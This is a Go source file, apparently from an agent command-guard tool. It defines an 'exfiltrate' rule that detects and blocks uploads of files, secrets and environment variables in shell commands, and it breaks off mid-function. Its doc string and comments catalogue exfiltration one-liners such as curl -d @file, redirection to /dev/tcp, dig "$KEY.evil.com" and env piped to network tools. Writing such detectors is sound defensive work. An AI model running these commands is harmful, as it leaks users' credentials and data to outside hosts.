package rewrite

import (
	"fmt"
	"iter"
	"net/netip"
	"net/url"
	"strings"

	"github.com/corral-dev/corral/internal/lazy"
	"github.com/corral-dev/corral/syntax"
)

var exfiltrate = Rule{
	Decisions: []Decision{Ask, Deny},
	Name:      "exfiltrate",
	Doc: `Uploads of local files: curl -d/--data/--data-binary/--data-urlencode/
--url-query/--variable/--json with @file, -F/--form with @file or <file, -T/--upload-file,
-H/--header @file; wget
--post-file/--body-file; httpie and xh fields with @file (name@file,
name=@file, name:=@file); scp and rsync with a remote destination; the
put, reput and mput commands of an sftp batch (-b FILE, or stdin); nc, ncat,
netcat, socat and telnet fed a file by redirection or by an upstream cat
(and libwww-perl's POST and PUT, lwp-request -m POST|PUT, which send their
standard input as the body);
socat's FILE: or OPEN: address when it is a source (both are, unless -u
or -U makes the copy one-way); TFTP's put (tftp -c put FILE, busybox tftp
-p -l FILE, atftp --put --local-file FILE); gh gist create FILE; and a redirection
to bash's /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT (cat f > /dev/tcp/h/80,
exec 3<>/dev/tcp/h/80), which is a connection, not a file. Local data
put into what a sender sends is an upload too: a command substitution's
output, or a variable holding one or a file's line, in posted data,
headers, form fields, a here-string or here-document on its standard
input, or the command ssh runs (ssh HOST 'cat > x' <<< "$(cat f)", curl
-d "$x" after read x < f); so is the body mail, mailx, s-nail or mutt
reads on its standard input, and a local file that program code written
in the command reads when the code also opens a network connection. An
upload of a secret
(the secret class of the path module) is denied. An upload of any other local
file to a host that is not on network.allow_hosts (default: the loopback
names) is asked about; curl's host is its URL's (a URL without a scheme is
http's: curl -d @f localhost:8080/api stays here), or its proxy's (-x,
--proxy, --preproxy) when the URL is on the list. curl -T to a file:// URL
copies the file on this machine: that is a write through the path guards
(bash-write), not an upload. The environment (env, printenv, set, export -p,
declare -p/-x, typeset, a loop echoing "${!v}" over compgen -e, code that
prints os.environ or process.env, jq env, /proc/*/environ) piped or
substituted into a network command, stored in a variable it expands, or
written to a file the same command then sends, is denied: it holds the
session's tokens. So is a network command given a
variable that holds a secret's content (source .env; curl -d "$KEY" URL;
read KEY < .env; KEY=$(cat .env); export $(grep -v '^#' .env | xargs)) or
a program that resolves or contacts a host name or URL holding it (dig
"$KEY.evil.com", nslookup, host, ping, whois; git clone, fetch, push,
ls-remote and remote with https://h/$KEY), one
that sends its standard input when that input holds it (a here-string or
here-document with the variable, curl --data-binary @- URL <<< "$KEY", nc
host 80 <<EOF; printf %s "$KEY" | curl -d @- URL), curl --variable %KEY
importing it from the environment, and program code (Python, JavaScript,
Ruby, Perl, PHP) that reads such a variable from its environment and opens
a network connection (env X="$KEY" python3 -c '…os.environ["X"]…urlopen…').
docker build to a daemon on another host (-H tcp://h:2376, DOCKER_HOST=ssh://
u@h as a prefix) sends its whole context there: a context holding a secret
that .dockerignore does not leave out is denied; a local daemon passes.
Cloud storage copies upload their local sources too (aws s3 cp/mv/sync,
gsutil and gcloud storage cp/mv/rsync, rclone copy/move/sync to a
REMOTE:path, azcopy copy/sync to a URL; the bucket or remote is the host),
and git push to a URL rather than a configured remote uploads the
repository's commits: asked about off network.allow_hosts; so is a push
(git push alone goes to origin) to a remote this command re-points (git
remote set-url, git config remote.NAME.url, -c or GIT_CONFIG_COUNT
settings, url.X.insteadOf to another host). A dry run of a cloud copy sends
nothing and passes: aws s3 … --dryrun, rclone -n/--dry-run, gsutil rsync
-n, azcopy --dry-run, each where the program reads it as an option (not
as the value of the option before it: rclone --backup-dir --dry-run). ssh, scp and sftp -o
SendEnv=NAME send a variable of the session's environment: asked, and
denied for a wildcard (SendEnv=*, AWS_*) other than the locale's. More senders:
the put, mput and mirror -R of an lftp, smbclient or ftp script (and ftp
-u URL FILE); mail -A, mailx -a and mutt -a attachments; az storage
blob/file uploads; curlie's curl options and httpie items; git send-email
(its commits ask too; --dry-run passes); and the files gh sends to GitHub (issue and pull
request --body-file, release assets and --notes-file, api -F f=@FILE and
--input, ssh-key add, codespace cp to remote:), where only a secret is
stopped (gh secret set -f .env asks). A secret copied into a container
or pod (docker, podman or nerdctl cp, kubectl cp) is denied, and so is
one copied up to a VM (gcloud compute scp FILE VM:), put in a config
map (kubectl create configmap --from-file/--from-env-file) or sent as
an aws file:// or fileb:// parameter value; one put in a secret store
asks, as gh secret set -f does (kubectl create secret --from-file=[KEY=]FILE
and --from-env-file, gcloud secrets create|versions add --data-file, az
keyvault secret set --file, aws ssm put-parameter and secretsmanager
with file://). And: an
httpie or xh item that is @FILE alone (the raw body); swaks --attach,
--body and --data given @FILE (or a file that exists); mosquitto_pub -f
FILE; kcat -P's file operands; psql's \copy TABLE FROM FILE (FROM STDIN
with -c: its stdin) and \lo_import FILE and mysql's LOAD DATA LOCAL
INFILE, in -c/-e text, a psql -f script or the text on stdin (the server
is -h's or the connection string's, else the local one); and npm or pnpm
publish --registry, twine upload --repository-url to a registry that is
not a public one, which ask (the package may hold any file of the
project), and npm or pnpm publish to any registry of a package that
would pack a secret on disk (no "files" list, and neither .npmignore nor,
without one, .gitignore leaves it out). docker push is not judged: the
image is built from the user's project and goes to their registry.
kubectl --server URL (-s) without --token sends the kubeconfig's login
to URL: asked. A variable whose name marks a credential (GITHUB_TOKEN,
OPENAI_API_KEY) that the environment gives, sent by an HTTP client (data,
a header, the URL) or printed into one's input (printenv GITHUB_TOKEN |),
asks unless it goes to the service the name names (api.github.com) or a
host on network.allow_hosts.`,
	Commands: []string{"curl", "wget", "wget2", "http", "https", "xh", "xhs", "scp", "rsync", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "gh", "ssh", "openssl", "docker",
		"env", "printenv", "set", "export", "declare", "typeset", "cat", "aws", "gsutil", "gcloud", "rclone", "azcopy", "s3cmd", "git",
		"mail", "mailx", "s-nail", "mutt", "neomutt", "az", "curlie", "lftp", "smbclient", "ftp", "podman", "nerdctl", "kubectl",
		"swaks", "mosquitto_pub", "kcat", "kafkacat", "psql", "mysql", "mariadb", "npm", "pnpm", "twine", "POST", "PUT", "lwp-request", "tftp", "atftp"},
	Call:     checkExfiltrate,
	Command:  checkEnvSends,
	Redirect: checkNetRedirect,
}

// netRedirect reports a redirection bash turns into a network
// connection, /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT, with its host
// and port.
func netRedirect(r syntax.Redirect) (host, port string, ok bool) {
	if !r.Target.Static {
		return "", "", false
	}
	rest, isTCP := strings.CutPrefix(r.Target.Value, "/dev/tcp/")
	if !isTCP {
		if rest, ok = strings.CutPrefix(r.Target.Value, "/dev/udp/"); !ok {
			return "", "", false
		}
	}
	host, port, ok = strings.Cut(rest, "/")
	return host, port, ok && host != ""
}

// checkNetRedirect judges a redirection that opens a connection (cat f >
// /dev/tcp/host/80, exec 3<>/dev/tcp/host/80): what the command writes
// there goes to host, so one off network.allow_hosts asks, as an upload
// does; a secret the command reads is denied by secret-read.
func checkNetRedirect(p *Pass, r syntax.Redirect) {
	if !r.Writes() {
		return
	}
	host, port, ok := netRedirect(r)
	if !ok || p.hostAllowed(host) {
		return
	}
	f := Finding{Rule: "exfiltrate", Decision: Ask, Text: r.Target.Raw,
		Message: whereIn(r.Script, r.Target.Start) + fmt.Sprintf("the redirection to %s connects to %s port %s, which is not on network.allow_hosts, and sends what the command writes there", r.Target.Raw, host, port)}
	f.Start, f.End = topSpanOf(r.Script, r.Target.Start, r.Target.End)
	p.Report(nil, f)
}

// networkCommands send data to another host.
var networkCommands = lazy.Value[map[string]bool]{New: func() map[string]bool {
	return map[string]bool{"curl": true, "wget": true, "wget2": true, "http": true, "https": true, "xh": true, "xhs": true,
		"scp": true, "rsync": true, "sftp": true, "ssh": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "gh": true, "openssl": true,
		"POST": true, "PUT": true, "lwp-request": true}
}}

// DefaultAllowHosts are the hosts an upload may go to without asking.
var DefaultAllowHosts = []string{"localhost", "127.0.0.1", "::1"}

func checkExfiltrate(p *Pass, c *syntax.Call) {
	if p.secretArgs(c) || p.secretInput(c) || p.secretEnvImport(c) {
		return
	}
	switch c.Name {
	case "curl":
		p.curlUploads(c)
	case "wget", "wget2":
		opts, operands := scan(c.Args, specFor("wget"))
		host := firstHost(c, operands)
		for _, o := range find(opts, "post-file", "body-file") {
			p.upload(c, o.val, host)
		}
		// The request's own text (wget(1)): posted data, headers, the
		// user's name and password, the user agent and the referer.
		for _, o := range find(opts, "post-data", "body-data", "header", "user", "password", "http-user", "http-password", "U", "user-agent", "referer") {
			p.sendText(c, o.val, host)
		}
		for _, o := range find(opts, "i", "input-file") {
			// wget -i FILE requests each line of FILE as a URL (with
			// -B/--base, joined to that address): a secret's lines
			// leave as requests.
			if s, ok := p.secretOf(c.Dir, o.val); ok {
				p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, Message: s.Reason(c.Name + " -i sends each line, as a request, of"), PathContext: "blocked"})
			}
		}
	case "http", "https", "xh", "xhs":
		p.httpieUploads(c)
	case "curlie":
		// curl's options and httpie's items.
		p.curlUploads(c)
		p.httpieUploads(c)
	case "lftp", "smbclient", "ftp":
		p.transferBatch(c, true)
		if c.Name == "ftp" {
			p.ftpUploads(c)
		}
	case "podman", "nerdctl", "kubectl":
		p.copyIntoContainer(c)
		if c.Name == "kubectl" {
			p.checkSenders(c)
			p.kubeServerLogin(c)
		}
	case "scp", "rsync":
		p.sshSendEnv(c)
		p.copyToRemote(c)
	case "sftp":
		p.sshSendEnv(c)
		p.sftpUploads(c)
	case "ssh":
		p.sshSendEnv(c)
		p.sshStdinUpload(c)
		if dest, words, ok := syntax.SSHCommandWords(c); ok {
			host := ""
			if dest.Static {
				host = sshHostName(dest.Value)
			}
			for _, w := range words {
				p.sendText(c, w, host)
			}
		}
	case "docker":
		p.dockerBuildSends(c)
		p.copyIntoContainer(c)
	case "aws", "gsutil", "gcloud", "rclone", "azcopy", "s3cmd":
		p.cloudUploads(c)
		if c.Name == "gcloud" {
			p.checkSenders(c)
		}
		if c.Name == "aws" {
			p.awsFileValues(c)
		}
	case "git":
		p.gitPushURL(c)
		p.gitRemoteRepoint(c)
		p.gitSendEmail(c)
	case "nc", "ncat", "netcat", "socat", "telnet":
		p.socketUploads(c)
	case "tftp", "atftp":
		p.tftpUploads(c)
	case "openssl":
		// openssl s_client -connect HOST:PORT sends what it reads on its
		// standard input to the server (a HOST:PORT operand, OpenSSL 3,
		// does the same; -connect defaults to localhost:4433).
		if len(c.Args) == 0 || c.Args[0].Value != "s_client" {
			return
		}
		host := "localhost"
		for i := 1; i < len(c.Args); i++ {
			a := c.Args[i]
			switch {
			case (a.Value == "-connect" || a.Value == "-host") && i+1 < len(c.Args):
				host = ""
				if v := c.Args[i+1]; v.Static {
					host = hostOf(v.Value)
				}
				i++
			case !a.Static:
				host = "" // an option or operand only run time knows
			case !strings.HasPrefix(a.Value, "-") && strings.Contains(a.Value, ":") && !strings.HasPrefix(c.Args[i-1].Value, "-"):
				host = hostOf(a.Value)
			}
		}
		p.uploadStdin(c, host)
	case "POST", "PUT", "lwp-request":
		if host, ok := lwpSendsStdin(c); ok {
			for _, r := range c.Redirs {
				if r.Op == "<" && (r.Fd == "" || r.Fd == "0") {
					p.upload(c, r.Target, host)
				}
			}
		}
	case "mail", "mailx", "s-nail", "mutt", "neomutt", "az", "swaks", "mosquitto_pub", "kcat", "kafkacat":
		p.checkSenders(c)
	case "psql", "mysql", "mariadb":
		p.sqlClientUploads(c)
	case "npm", "pnpm", "twine":
		p.publishUploads(c)
	case "gh":
		p.checkSenders(c)
		if len(c.Args) >= 2 && c.Args[0].Value == "gist" && (c.Args[1].Value == "create" || c.Args[1].Value == "new") {
			_, operands := scan(c.Args[2:], optSpec{shortVal: "dfw", longVal: longOpts("desc", "filename", "web"), longEq: true})
			for _, i := range operands {
				a := c.Args[2+i]
				if a.Value == "-" {
					continue
				}
				p.upload(c, a, "gist.github.com")
			}
		}
	case "cat":
		// cat FILE | nc host port: the file goes out.
		if c.Pipe == nil {
			return
		}
		next := c.Pipe.Stage(c.PipeIndex + 1)
		if next == nil {
			return
		}
		host := ""
		if socketCommands.Get()[next.Name] {
			host = socketHost(next)
		} else if h, ok := lwpSendsStdin(next); ok {
			host = h
		} else {
			return
		}
		_, operands := scan(c.Args, optSpec{})
		for _, i := range operands {
			p.upload(next, c.Args[i], host)
		}
	}
}

// lwpSendsStdin reports whether a libwww-perl client sends its standard
// input as the request's body (POST, PUT, lwp-request -m POST|PUT;
// lwp-request(1): -c sets only its type), and the host it goes to.
func lwpSendsStdin(c *syntax.Call) (string, bool) {
	opts, operands := scan(c.Args, optSpec{shortVal: "mbticpCoH"})
	method := c.Name
	for _, m := range find(opts, "m") {
		method = strings.ToUpper(m.val.Value)
	}
	if method != "POST" && method != "PUT" {
		return "", false
	}
	return firstHost(c, operands), true
}

var socketCommands = lazy.Value[map[string]bool]{New: func() map[string]bool {
	return map[string]bool{"nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true}
}}

// upload judges local file a sent by c to host ("" when unknown).
func (p *Pass) upload(c *syntax.Call, a syntax.Arg, host string) {
	if a.Value == "-" || a.Static && a.Value == "/dev/stdin" {
		p.uploadStdin(c, host)
		return
	}
	if a.Value == "" || a.Static && a.Value == "/dev/null" {
		return
	}
	if s, ok := p.secretOf(c.Dir, a); ok {
		p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, Message: s.Reason(c.Name + " uploads"), PathContext: "blocked"})
		return
	}
	if host != "" && p.hostAllowed(host) {
		return
	}
	where := awayHost(host)
	p.Report(c, Finding{Rule: "exfiltrate", Decision: Ask, Message: fmt.Sprintf("%s uploads the local file %s to %s", c.Name, a.Raw, where)})
}

// uploadStdin judges an upload of the call's standard input (curl -T -,
// -d @-): a file redirected there is uploaded as that file; the output of
// an earlier pipeline stage is local data as a file is (cat f | curl -T -,
// git bundle create - --all | curl -T -, tar c . | curl --data-binary @-),
// except what echo or printf print from the command's own words. A
// here-string's or here-document's text is the command's own, unless
// the shell puts local data in it (<<< "$(cat notes.txt)": localData).
func (p *Pass) uploadStdin(c *syntax.Call, host string) {
	in := c.Fd(0)
	if r, ok := in.File(); ok {
		t := r.Target
		t.Start, t.End = c.Start, c.End
		p.upload(c, t, host)
		return
	}
	if w, ok := in.TextWord(); ok {
		p.sendText(c, w, host)
		return
	}
	if in.Kind == syntax.StreamPipe && in.Pipe != nil && in.Pipe.Coproc && in.Stage == 0 && !(host != "" && p.hostAllowed(host)) {
		// coproc nc HOST 80; cat f >&"${COPROC[1]}": the script's
		// commands that write the coprocess's input pipe feed it.
		for _, w := range p.Model.Calls {
			if w != c && w.Fd(1).Same(in) && !p.ownOutput(w, 0) && !p.fetchedFromAway(w) {
				p.reportLocalData(c, "what "+clipText(w.Text(), 60)+" writes to its coprocess", host)
				return
			}
		}
		return
	}
	if in.Kind != syntax.StreamPipe || in.Pipe == nil || in.Stage < 1 || host != "" && p.hostAllowed(host) {
		return
	}
	src := in.Pipe.Stage(in.Stage - 1)
	if src != nil && (p.ownOutput(src, 0) || p.fetchedFromAway(src)) {
		return // curl URL | ssh HOST bash -s: another host's bytes, relayed
	}
	what := "an earlier stage of the pipeline"
	if src != nil {
		what = clipText(src.Text(), 60)
	}
	p.reportLocalData(c, "what "+what+" prints", host)
}

// fetchedFromAway reports a pipeline stage that prints what it downloads
// from a host off network.allow_hosts (curl URL, wget -O- URL): what it
// prints is that host's data, not this machine's. One fetching from a
// loopback service prints local data.
func (p *Pass) fetchedFromAway(c *syntax.Call) bool {
	var operands []int
	switch c.Name {
	case "curl":
		_, operands = scan(c.Args, specFor("curl"))
	case "wget", "wget2":
		_, operands = scan(c.Args, specFor("wget"))
	default:
		return false
	}
	host := firstHost(c, operands)
	return host != "" && !p.hostAllowed(host)
}

func (p *Pass) hostAllowed(host string) bool {
	hosts := p.Config.AllowHosts
	if hosts == nil {
		hosts = DefaultAllowHosts
	}
	host = strings.ToLower(strings.Trim(host, "[]"))
	for _, h := range hosts {
		h = strings.ToLower(h)
		if h == host || strings.HasPrefix(h, "*.") && strings.HasSuffix(host, h[1:]) {
			return true
		}
	}
	if loopbackIP(host) {
		for _, h := range hosts {
			if loopbackIP(h) {
				return true
			}
		}
	}
	return false
}

// loopbackIP reports whether s is a loopback IP address (127.0.0.0/8,
// ::1, ::ffff:127.x.y.z), as net.ParseIP reads it: no zone. It uses
// net/netip so that the hook does not link package net (and its C
// resolver).
func loopbackIP(s string) bool {
	a, err := netip.ParseAddr(s)
	return err == nil && a.Zone() == "" && a.IsLoopback()
}

// hostOf returns the host of a URL or of host:path / user@host:path.
func hostOf(v string) string {
	if strings.Contains(v, "://") {
		u, err := url.Parse(v)
		if err != nil {
			return ""
		}
		return u.Hostname()
	}
	if i := strings.Index(v, "@"); i >= 0 {
		v = v[i+1:]
	}
	if i := strings.Index(v, ":"); i > 0 {
		return v[:i]
	}
	return v
}

// firstHost is the host of the first operand that looks like a URL or a
// host name.
func firstHost(c *syntax.Call, operands []int) string {
	for _, i := range operands {
		a := c.Args[i]
		if a.Static && (strings.Contains(a.Value, "://") || strings.Contains(a.Value, ".") || a.Value == "localhost") {
			return hostOf(a.Value)
		}
	}
	return ""
}

// curlURLs yields the URLs curl is given: its operands and --url values
// (an iterator: a command of 16,000 downloads need not copy its words).
func curlURLs(c *syntax.Call, opts []option, operands []int) iter.Seq[syntax.Arg] {
	return func(yield func(syntax.Arg) bool) {
		for _, i := range operands {
			if !yield(c.Args[i]) {
				return
			}
		}
		for _, o := range opts {
			if o.name == "url" && o.hasVal && !yield(o.val) {
				return
			}
		}
	}
}

// fileURLPath returns the local path a file:// URL names (file:///tmp/x,
// file://localhost/tmp/x; %XX decoded), and whether u is one. curl refuses
// a file:// URL naming another host, which then names no path.
func fileURLPath(u syntax.Arg) (string, bool) {
	if len(u.Value) < 5 || !strings.EqualFold(u.Value[:5], "file:") {
		return "", false
	}
	parsed, err := url.Parse(u.Value)
	if err != nil || parsed.Host != "" && !strings.EqualFold(parsed.Host, "localhost") || !strings.HasPrefix(parsed.Path, "/") {
		return "", true
	}
	return parsed.Path, true
}

// curlLocalOnly reports that every URL curl is given is a static file://
// URL: what it "uploads" is copied to a file here (bash-write judges that
// write) and nothing leaves the machine.
func curlLocalOnly(c *syntax.Call, opts []option, operands []int) bool {
	some := false
	for u := range curlURLs(c, opts, operands) {
		if _, ok := fileURLPath(u); !ok || !u.Static {
			return false
		}
		some = true
	}
	return some
}

func (p *Pass) curlUploads(c *syntax.Call) {
	opts, operands := scan(c.Args, specFor("curl"))
	if curlLocalOnly(c, opts, operands) {
		// -T to file:// copies the file here (a write bash-write
		// judges); a secret copied so is still read, as cp .env /tmp/x is.
		for _, o := range find(opts, "T", "upload-file") {
			if s, ok := p.secretOf(c.Dir, o.val); ok {
				p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, Message: s.Reason(c.Name + " copies"), PathContext: "blocked"})
			}
		}
		return
	}
	// Every operand is a URL; one without a scheme is http's (curl
	// localhost:8080/api posts to localhost).
	host := ""
	for u := range curlURLs(c, opts, operands) {
		if _, local := fileURLPath(u); local || !u.Static || u.Value == "" {
			continue
		}
		v := u.Value
		if !strings.Contains(v, "://") {
			v = "http://" + v
		}
		host = hostOf(v)
		break
	}
	// A proxy (-x, --proxy, --preproxy) receives what is posted to a
	// loopback URL too: curl -x http://proxy.example:3128 -d @f localhost.
	if host != "" && p.hostAllowed(host) {
		for _, o := range find(opts, "x", "proxy", "preproxy") {
			v := o.val.Value
			if !strings.Contains(v, "://") {
				v = "http://" + v
			}
			if !o.val.Static {
				host = ""
				break
			}
			if h := hostOf(v); h == "" || !p.hostAllowed(h) {
				host = h
				break
			}
		}
	}
	for _, o := range opts {
		if !o.hasVal {
			continue
		}
		v := o.val
		switch o.name {
		case "d", "data", "data-ascii", "data-binary", "json":
			if strings.HasPrefix(v.Value, "@") {
				p.upload(c, sub(v, v.Value[1:]), host)
			}
		case "data-urlencode", "url-query":
			// [name]@file reads a file; name=content does not
			// (--url-query, curl 7.87, takes the same forms and puts them
			// in the URL's query).
			if i := strings.Index(v.Value, "@"); i >= 0 && !strings.Contains(v.Value[:i], "=") {
				p.upload(c, sub(v, v.Value[i+1:]), host)
			}
		case "variable":
			// --variable [%]name@file reads a file into a variable that
			// --expand-url, --expand-data and the other --expand-*
			// options put in what curl sends (curl 8.3).
			if i := strings.Index(v.Value, "@"); i >= 0 && !strings.Contains(v.Value[:i], "=") && v.Value[i+1:] != "" {
				p.upload(c, sub(v, v.Value[i+1:]), host)
			}
		case "F", "form":
			_, val, _ := strings.Cut(v.Value, "=")
			if strings.HasPrefix(val, "@") || strings.HasPrefix(val, "<") {
				file := val[1:]
				if i := strings.Index(file, ";"); i >= 0 {
					file = file[:i]
				}
				p.upload(c, sub(v, file), host)
			}
		case "T", "upload-file":
			p.upload(c, v, host)
		case "H", "header", "proxy-header":
			// -H @FILE sends the file's lines as headers (curl 7.55).
			if strings.HasPrefix(v.Value, "@") && len(v.Value) > 1 {
				p.upload(c, sub(v, v.Value[1:]), host)
			}
		}
	}
	p.curlTextSends(c, opts, host)
}

// sub returns a's word with another value (a file named inside an option's
// value); it is static only when a is.
// sub is the part v of word a's value (the file in -F f=@file). It is
// never a glob: bash matches the whole word (f=@.en? names no file, so it
// stays as written and curl opens ".en?"). A dynamic part keeps no word of
// its own.
func sub(a syntax.Arg, v string) syntax.Arg {
	a.Value = v
	a.Glob = false
	a.SetPattern("")
	if !a.Static {
		a.Word = nil
	}
	return a
}

func (p *Pass) httpieUploads(c *syntax.Call) {
	_, operands := scan(c.Args, optSpec{shortVal: "aAopv", longVal: longOpts("auth", "auth-type", "output", "session", "session-read-only", "pretty", "style", "print", "verify", "cert", "cert-key", "proxy", "timeout", "max-redirects", "format-options", "response-charset", "response-mime", "unsorted", "boundary", "raw"), longEq: true})
	host, url := "", false
	for _, i := range operands {
		a := c.Args[i]
		v := a.Value
		if !url {
			// [METHOD] URL ITEM...: the URL is the first operand that
			// is not a method; one only known at run time leaves the
			// host unknown.
			switch strings.ToUpper(v) {
			case "GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS":
				if a.Static {
					continue
				}
			}
			url = true
			if !a.Static {
				continue
			}
			host = hostOf(v)
			if !strings.Contains(v, "://") {
				// httpie's shorthand: ":3000/x" is localhost, "example.org/x".
				if strings.HasPrefix(v, ":") {
					host = "localhost"
				} else {
					host, _, _ = strings.Cut(v, "/")
					host, _, _ = strings.Cut(host, ":")
				}
			}
			continue
		}
		if file, ok := httpieFileItem(v); ok {
			p.upload(c, sub(a, file), host)
			continue
		}
		// A field, header or query item's value: the request's own
		// text, unless the shell puts local data in it.
		p.sendText(c, a, host)
	}
}

// httpieSeps are the separators of HTTPie's (and xh's) request items,
// longest first, and which of them read a file: name=@file (a field's
// value), name:=@file (raw JSON), name@file (a multipart file),
// Header:@file and name==@file (HTTPie 3: a header's or a query
// parameter's value).
var httpieSeps = []struct {
	sep  string
	file bool
}{{":=@", true}, {"==@", true}, {"=@", true}, {":@", true}, {"==", false}, {":=", false}, {"=", false}, {":", false}, {"@", true}}

// httpieFileItem returns the file a request item reads, if any. An item
// that is @FILE alone is the raw request body read from FILE (http POST
// URL @data.json). Otherwise the item splits at its earliest separator
// (the longest one at that place), as HTTPie's parser does: email=a@b.example
// is a field holding an address, not a file.
func httpieFileItem(v string) (string, bool) {
	if strings.HasPrefix(v, "@") {
		return v[1:], len(v) > 1
	}
	best, bestLen, file := -1, 0, false
	for _, s := range httpieSeps {
		i := strings.Index(v, s.sep)
		if i <= 0 || best >= 0 && (i > best || i == best && len(s.sep) <= bestLen) {
			continue
		}
		best, bestLen, file = i, len(s.sep), s.file
	}
	if best < 0 || !file {
		return "", false
	}
	return v[best+bestLen:], true
}

func (p *Pass) copyToRemote(c *syntax.Call) {
	opts, operands := scan(c.Args, remoteCopySpec(c.Name))
	if len(operands) < 2 || c.Name == "rsync" && rsyncDryRun(opts) {
		return // rsync -n, --list-only: nothing is sent
	}
	host, remote := remoteDest(c.Args[operands[len(operands)-1]])
	if !remote {
		return
	}
	for _, i := range operands[:len(operands)-1] {
		src := c.Args[i]
		if l, ok := loopbackArg(src); ok {
			// scp localhost:.ssh/id_rsa prod: (box:, the twin of a host
			// ssh sends here) reads the file on this machine and sends it
			// to prod, as scp ~/.ssh/id_rsa prod: does: judged as that
			// upload (a secret denied, another file as an upload to
			// that host); a copy to this machine again is a local copy.
			if _, here := loopbackArg(c.Args[operands[len(operands)-1]]); !here {
				p.upload(c, l, host)
			}
			continue
		}
		if src.Static && remotePath(src.Value) {
			continue
		}
		p.upload(c, src, host)
	}
}

// remoteDest reports whether an scp or rsync destination names another
// host, and which: HOST:PATH, [user@]HOST:, scp://… and rsync's
// HOST::module. A word with run-time parts is remote when a colon of its
// literal text ends the host part before any slash: $H:x and
// me@"$(cat host)":backup/ send to a host only run time knows (""),
// which no allow list holds; "$(hostname)":x is this machine's name
// (syntax.ThisMachineArg). "$DEST", dir/$f and $D/x:y are local paths
// as far as the text shows.
func remoteDest(a syntax.Arg) (host string, remote bool) {
	if b, ok := syntax.ThisMachineArg(a); ok {
		if !remotePath(b.Value) {
			return "", false
		}
		return hostOf(b.Value), true
	}
	if a.Word == nil || a.Split {
		return "", false
	}
	lit := syntax.LiteralSkeleton(a.Word, "\x00")
	if i := strings.Index(lit, "://"); i > 0 {
		switch lit[:i] {
		case "scp", "rsync", "sftp", "ssh":
			return "", true
		}
		return "", false
	}
	colon := strings.IndexByte(lit, ':')
	if colon <= 0 || strings.Contains(lit[:colon], "/") {
		return "", false
	}
	if h := lit[:colon]; !strings.Contains(h, "\x00") {
		return hostOf(h), true
	}
	return "", true
}

// socketHost is the host nc/ncat/telnet connect to, or socat's TCP address.
func socketHost(c *syntax.Call) string {
	if c.Name == "socat" {
		for _, a := range c.Args {
			for _, pre := range []string{"TCP:", "TCP4:", "TCP6:", "UDP:", "OPENSSL:", "SSL:"} {
				if strings.HasPrefix(strings.ToUpper(a.Value), pre) {
					h := a.Value[len(pre):]
					if i := strings.LastIndex(h, ":"); i > 0 {
						h = h[:i]
					}
					return h
				}
			}
		}
		return ""
	}
	_, operands := scan(c.Args, optSpec{shortVal: "pswiqeIOTxX", longVal: longOpts("source-port", "source", "wait", "idle-timeout", "exec", "sh-exec", "lua-exec", "proxy", "proxy-type", "proxy-auth")})
	for _, i := range operands {
		if a := c.Args[i]; a.Static {
			return a.Value
		}
	}
	return ""
}

func (p *Pass) socketUploads(c *syntax.Call) {
	host := socketHost(c)
	if host == "" && c.Name != "socat" {
		return // a listener (nc -l) sends nothing anywhere by itself
	}
	for _, r := range c.Redirs {
		if r.Op == "<" && (r.Fd == "" || r.Fd == "0") {
			p.upload(c, r.Target, host)
		}
	}
	if host != "" && sendsInput(c) && c.Fd(0).Kind == syntax.StreamPipe {
		// tar cz src | nc HOST 9: what an earlier stage prints leaves
		// as curl -T - sends it (a file piped by cat is the redirection's).
		p.uploadStdin(c, host)
	}
	if c.Name == "socat" {
		// socat copies both ways unless -u (first address to second)
		// or -U (second to first): a file sends what it holds only
		// when it is a source (socat -u TCP:h:80 FILE:f receives).
		a, b, u, rev, ok := socatAddrs(c)
		if !ok {
			return
		}
		_, aNet, _ := socatKind(a)
		_, bNet, _ := socatKind(b)
		if !aNet && !bNet {
			return // two local ends (socat FILE:/dev/ttyUSB0 STDIO): nothing leaves
		}
		for i, addr := range []syntax.Arg{a, b} {
			if i == 0 && rev || i == 1 && u {
				continue
			}
			for _, pre := range []string{"FILE:", "OPEN:", "GOPEN:"} {
				if strings.HasPrefix(strings.ToUpper(addr.Value), pre) {
					file := addr.Value[len(pre):]
					if i := strings.Index(file, ","); i >= 0 {
						file = file[:i]
					}
					p.upload(c, sub(addr, file), host)
				}
			}
		}
	}
}

// sshStdinUpload judges what ssh hands the host on its standard input —
// a file redirected there, an earlier pipeline stage's output (ssh HOST
// 'cat > x' < notes.txt, tar cz src | ssh HOST tar xz) — as the upload of
// that local data, as scp of a file is: ask unless the host is on
// network.allow_hosts; a secret is denied by secretInput before this.
// What echo or printf print from the command's own words is not local
// data.
func (p *Pass) sshStdinUpload(c *syntax.Call) {
	dest, ok := syntax.SSHStdinSent(c)
	if !ok {
		return
	}
	host := ""
	if dest.Static {
		host = sshHostName(dest.Value)
	}
	in := c.Fd(0)
	if _, isFile := in.File(); !isFile && in.Kind != syntax.StreamPipe {
		return // the terminal, or what the agent's shell gives: nothing local is sent
	}
	p.uploadStdin(c, host)
}

// sshHostName is the host of ssh's destination: [user@]host, or
// ssh://[user@]host[:port].
func sshHostName(dest string) string {
	dest = strings.TrimPrefix(dest, "ssh://")
	if i := strings.LastIndex(dest, "@"); i >= 0 {
		dest = dest[i+1:]
	}
	if strings.HasPrefix(dest, "[") {
		if i := strings.Index(dest, "]"); i > 0 {
			return dest[1:i]
		}
	}
	if i := strings.LastIndex(dest, ":"); i >= 0 && strings.Count(dest, ":") == 1 {
		dest = dest[:i]
	}
	return dest
}

// tftpUploads judges the files TFTP clients send: tftp HOST -c put FILE
// [REMOTE] (also the put commands on its stdin), busybox tftp
// -p -l FILE HOST, atftp -p/--put -l/--local-file FILE HOST.
func (p *Pass) tftpUploads(c *syntax.Call) {
	put, local, host := false, syntax.Arg{}, ""
	for i := 0; i < len(c.Args); i++ {
		a := c.Args[i]
		next := func() (syntax.Arg, bool) {
			if i+1 < len(c.Args) {
				i++
				return c.Args[i], true
			}
			return syntax.Arg{}, false
		}
		switch {
		case a.Value == "-c":
			if cmd, ok := next(); ok {
				f := strings.Fields(cmd.Value)
				if len(f) > 0 && f[0] == "put" {
					put = true
					if len(f) > 1 {
						local = sub(cmd, f[1])
					} else if v, ok := next(); ok {
						local = v
